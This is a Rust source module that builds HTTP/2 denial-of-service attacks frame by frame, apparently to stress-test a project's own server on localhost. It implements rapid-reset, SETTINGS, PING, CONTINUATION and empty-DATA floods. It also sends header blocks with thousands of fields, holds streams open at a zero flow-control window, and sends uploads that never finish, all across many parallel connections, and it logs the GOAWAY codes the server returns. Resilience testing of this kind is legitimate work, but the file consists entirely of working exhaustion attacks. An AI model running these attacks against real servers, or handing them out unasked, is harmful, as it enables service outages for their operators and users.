//! Attacks over HTTP/2, written frame by frame: RFC 9113, with HPACK literals (RFC 7541) and no state.

use std::io::{Read, Write};
use std::time::{Duration, Instant};

use anyhow::Result;

use super::http::Connection;
use super::in_parallel;
use super::stage::{FILM, Outcome, Stage};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `SETTINGS_INITIAL_WINDOW_SIZE`
const INITIAL_WINDOW_SIZE: u16 = 4;

/// Connections of an attack that holds many streams.
const CONNECTIONS: usize = 64;

/// Likewise, of each of as many threads.
const CONNECTIONS_EACH: usize = 4;

/// Streams of one of them: as many as the server allows.
const STREAMS: u32 = 32;

/// Requests with too many header fields on one connection, at most.
const MANY_FIELDS: u32 = 1000;

/// Frames of a flood on one connection, at most.
const FLOOD: usize = 50_000;

/// Connections of a flood.
const FLOODS: usize = 4;

pub fn rapid_reset(stage: &Stage, deadline: Instant) -> Result<Outcome> {
    let request = headers("GET", "/robots.txt", "");
    flood(stage, deadline, |number| {
        let stream = 2 * number + 1;
        [
            frame(HEADERS, END_HEADERS | END_STREAM, stream, &request),
            frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
        ]
        .concat()
    })
}

pub fn settings_flood(stage: &Stage, deadline: Instant) -> Result<Outcome> {
    flood(stage, deadline, |_| frame(SETTINGS, 0, 0, &[]))
}

pub fn ping_flood(stage: &Stage, deadline: Instant) -> Result<Outcome> {
    flood(stage, deadline, |_| frame(PING, 0, 0, &[0; 8]))
}

pub fn continuation_flood(stage: &Stage, deadline: Instant) -> Result<Outcome> {
    let block = literal("x-a", &"b".repeat(1000));
    flood(stage, deadline, |number| match number {
        0 => frame(HEADERS, END_STREAM, 1, &headers("GET", "/", "")),
        _ => frame(CONTINUATION, 0, 1, &block),
    })
}

pub fn empty_data_flood(stage: &Stage, deadline: Instant) -> Result<Outcome> {
    let request = headers("POST", "/mcp", "application/json");
    flood(stage, deadline, |number| match number {
        0 => frame(HEADERS, END_HEADERS, 1, &request),
        _ => frame(DATA, 0, 1, &[]),
    })
}

pub fn many_header_fields(stage: &Stage, deadline: Instant) -> Result<Outcome> {
    let mut block = headers("GET", "/", "");
    for number in 0..10_000 {
        block.extend(literal(&format!("x-{number}"), "a"));
    }
    in_parallel(CONNECTIONS, |_| {
        let mut outcome = Outcome::default();
        let mut connection = open(stage, 65_535)?;
        for number in 0..MANY_FIELDS {
            let request = in_frames(2 * number + 1, &block);
            // An error: the server has read enough of it.
            if Instant::now() > deadline || connection.stream.write_all(&request).is_err() {
                break;
            }
            outcome.requests += 1;
            outcome.bytes += request.len() as u64;
        }
        outcome.ended(ending(&mut connection, Instant::now()));
        Ok(outcome)
    })
}

/// A request without a body whose header block takes many frames.
fn in_frames(stream: u32, block: &[u8]) -> Vec<u8> {
    let pieces = block.chunks(16 << 10);
    let last = pieces.len() - 1;
    let mut frames = Vec::new();
    for (number, piece) in pieces.enumerate() {
        let (kind, mut flags) = match number {
            0 => (HEADERS, END_STREAM),
            _ => (CONTINUATION, 0),
        };
        if number == last {
            flags |= END_HEADERS;
        }
        frames.extend(frame(kind, flags, stream, piece));
    }
    frames
}

/// Videos that are asked for with a window of zero, beside pings that keep the connection alive.
pub fn closed_windows(stage: &Stage, deadline: Instant) -> Result<Outcome> {
    let (path, authorization) = &stage.video;
    let token = authorization.trim().trim_start_matches("Authorization: ");
    let mut request = headers("GET", path, "");
    request.extend(literal("authorization", token));
    in_parallel(CONNECTIONS, |_| {
        let mut outcome = Outcome::default();
        let mut connection = open(stage, 0)?;
        for number in 0..STREAMS {
            let opened = frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &request);
            connection.stream.write_all(&opened)?;
            outcome.requests += 1;
            outcome.bytes += opened.len() as u64;
        }
        while Instant::now() < deadline {
            if connection
                .stream
                .write_all(&frame(PING, 0, 0, &[0; 8]))
                .is_err()
            {
                break;
            }
            std::thread::sleep(Duration::from_millis(200));
        }
        outcome.ended(ending(&mut connection, Instant::now()));
        Ok(outcome)
    })
}

/// More requests than the client may make, all of them waiting for their turn.
pub fn waiting_requests(stage: &Stage, deadline: Instant) -> Result<Outcome> {
    let request = headers("GET", "/nope", "");
    in_parallel(CONNECTIONS, |_| {
        let mut outcome = Outcome::default();
        let mut connections = Vec::new();
        for _ in 0..CONNECTIONS_EACH {
            let mut connection = open(stage, 65_535)?;
            for number in 0..STREAMS {
                let opened = frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &request);
                connection.stream.write_all(&opened)?;
                outcome.requests += 1;
                outcome.bytes += opened.len() as u64;
            }
            connections.push(connection);
        }
        for connection in &mut connections {
            outcome.ended(ending(connection, deadline));
        }
        Ok(outcome)
    })
}

/// Bodies as long as the server's windows allow, of uploads that never end.
pub fn unread_bodies(stage: &Stage, deadline: Instant) -> Result<Outcome> {
    let path = format!("{}/takes", stage.link);
    let mut request = headers("POST", &path, "video/mp4");
    request.extend(literal("upload-complete", "?0"));
    in_parallel(CONNECTIONS, |_| {
        let mut outcome = Outcome::default();
        let mut connection = open(stage, 65_535)?;
        let (mut of_connection, of_stream) = windows(&mut connection);
        let mut film = FILM.to_vec();
        film.resize(16 << 10, 0);
        for number in 0..STREAMS {
            let stream = 2 * number + 1;
            let mut frames = frame(HEADERS, END_HEADERS, stream, &request);
            let pieces = of_stream.min(of_connection) / film.len();
            frames.extend(frame(DATA, 0, stream, &film).repeat(pieces));
            of_connection -= pieces * film.len();
            outcome.requests += 1;
            outcome.bytes += frames.len() as u64;
            if connection.stream.write_all(&frames).is_err() || Instant::now() > deadline {
                break;
            }
        }
        outcome.ended(ending(&mut connection, deadline));
        Ok(outcome)
    })
}

/// Frames one after the other, on a few connections, until the server ends them.
fn flood(
    stage: &Stage,
    deadline: Instant,
    frame_at: impl Fn(u32) -> Vec<u8> + Sync,
) -> Result<Outcome> {
    in_parallel(FLOODS, |_| {
        let mut outcome = Outcome::default();
        let mut connection = open(stage, 65_535)?;
        // What the server answers is read beside: a client that reads nothing would end the flood by itself.
        let mut reading = connection.stream.try_clone()?;
        let reader = std::thread::spawn(move || {
            let mut last = Vec::new();
            let mut bytes = [0; 16 << 10];
            while let Ok(read) = reading.read(&mut bytes) {
                if read == 0 {
                    break;
                }
                last.extend_from_slice(&bytes[..read]);
                let start = last.len().saturating_sub(64);
                last.drain(..start);
            }
            last
        });
        for number in 0..u32::try_from(FLOOD)? {
            let frames = frame_at(number);
            if Instant::now() > deadline || connection.stream.write_all(&frames).is_err() {
                break;
            }
            outcome.requests += 1;
            outcome.bytes += frames.len() as u64;
        }
        let ended = connection
            .stream
            .shutdown(std::net::Shutdown::Write)
            .is_err();
        let last = reader.join().unwrap_or_default();
        outcome.ended(match goaway(&last) {
            Some(code) => format!("GOAWAY {code}"),
            None if ended => "closed".to_owned(),
            None => "answered".to_owned(),
        });
        Ok(outcome)
    })
}

/// A connection whose streams have this initial window.
fn open(stage: &Stage, window: u32) -> Result<Connection> {
    let mut connection = stage.connect()?;
    let setting = [
        &INITIAL_WINDOW_SIZE.to_be_bytes()[..],
        &window.to_be_bytes(),
    ];
    let settings = frame(SETTINGS, 0, 0, &setting.concat());
    connection
        .stream
        .write_all(&[PREFACE, &settings].concat())?;
    Ok(connection)
}

/// How much the server takes at first: on a connection, and of one stream.
fn windows(connection: &mut Connection) -> (usize, usize) {
    let (mut of_connection, mut of_stream) = (65_535, 65_535);
    let mut received = Vec::new();
    let mut bytes = [0; 4096];
    let timeout = Some(Duration::from_millis(200));
    while connection.stream.set_read_timeout(timeout).is_ok() {
        match connection.stream.read(&mut bytes) {
            Ok(read) if read > 0 => received.extend_from_slice(&bytes[..read]),
            _ => break,
        }
    }
    let number = |bytes: &[u8]| {
        bytes
            .iter()
            .fold(0, |all, byte| all << 8 | usize::from(*byte))
    };
    let mut rest = &received[..];
    while rest.len() >= 9 {
        let (head, after) = rest.split_at(9);
        let (payload, next) = after.split_at(number(&head[..3]).min(after.len()));
        match head[3] {
            SETTINGS => {
                let mut settings = payload.chunks_exact(6);
                let window = settings.find(|it| it[..2] == INITIAL_WINDOW_SIZE.to_be_bytes());
                of_stream = window.map_or(of_stream, |it| number(&it[2..]));
            }
            WINDOW_UPDATE => of_connection += number(payload),
            _ => {}
        }
        rest = next;
    }
    (of_connection, of_stream)
}

/// How the server has ended the connection by then, if it has.
fn ending(connection: &mut Connection, deadline: Instant) -> String {
    let mut all = Vec::new();
    let mut bytes = [0; 16 << 10];
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        let timeout = Some(left.max(Duration::from_millis(1)));
        if connection.stream.set_read_timeout(timeout).is_err() {
            return "closed".to_owned();
        }
        match connection.stream.read(&mut bytes) {
            Ok(read) if read > 0 => {
                all.extend_from_slice(&bytes[..read]);
                let start = all.len().saturating_sub(64);
                all.drain(..start);
            }
            read => {
                let timed_out = read.is_err_and(|error| {
                    use std::io::ErrorKind as K;
                    matches!(error.kind(), K::WouldBlock | K::TimedOut)
                });
                return match goaway(&all) {
                    Some(code) => format!("GOAWAY {code}"),
                    None if timed_out => "held".to_owned(),
                    None => "closed".to_owned(),
                };
            }
        }
    }
}

/// The error code of a GOAWAY frame at the end of what was received: RFC 9113, section 7.
fn goaway(received: &[u8]) -> Option<&'static str> {
    let found = received
        .windows(9)
        .rposition(|it| it[3] == GOAWAY && it[5..9] == [0; 4])?;
    let code = received.get(found + 13..found + 17)?;
    Some(match code {
        [0, 0, 0, 0] => "NO_ERROR",
        [0, 0, 0, 1] => "PROTOCOL_ERROR",
        [0, 0, 0, 3] => "FLOW_CONTROL_ERROR",
        [0, 0, 0, 11] => "ENHANCE_YOUR_CALM",
        _ => "with another error",
    })
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    // A payload is at most 16 KiB here, so its length takes three bytes.
    let length = u32::try_from(payload.len())
        .unwrap_or_default()
        .to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

fn headers(method: &str, path: &str, media_type: &str) -> Vec<u8> {
    let mut block = Vec::new();
    for (name, value) in [
        (":method", method),
        (":scheme", "http"),
        (":authority", "127.0.0.1"),
        (":path", path),
    ] {
        block.extend(literal(name, value));
    }
    if !media_type.is_empty() {
        block.extend(literal("content-type", media_type));
    }
    block
}

/// A field that no table keeps: RFC 7541, section 6.2.2.
fn literal(name: &str, value: &str) -> Vec<u8> {
    let mut field = vec![0];
    for text in [name, value] {
        integer(&mut field, text.len());
        field.extend(text.bytes());
    }
    field
}

/// An integer with a prefix of seven bits: RFC 7541, section 5.1.
fn integer(into: &mut Vec<u8>, value: usize) {
    const PREFIX: usize = 127;
    let Some(mut rest) = value.checked_sub(PREFIX) else {
        into.push(u8::try_from(value).unwrap_or_default());
        return;
    };
    into.push(127);
    while rest >= 128 {
        into.push(u8::try_from(rest % 128).unwrap_or_default() | 128);
        rest /= 128;
    }
    into.push(u8::try_from(rest).unwrap_or_default());
}
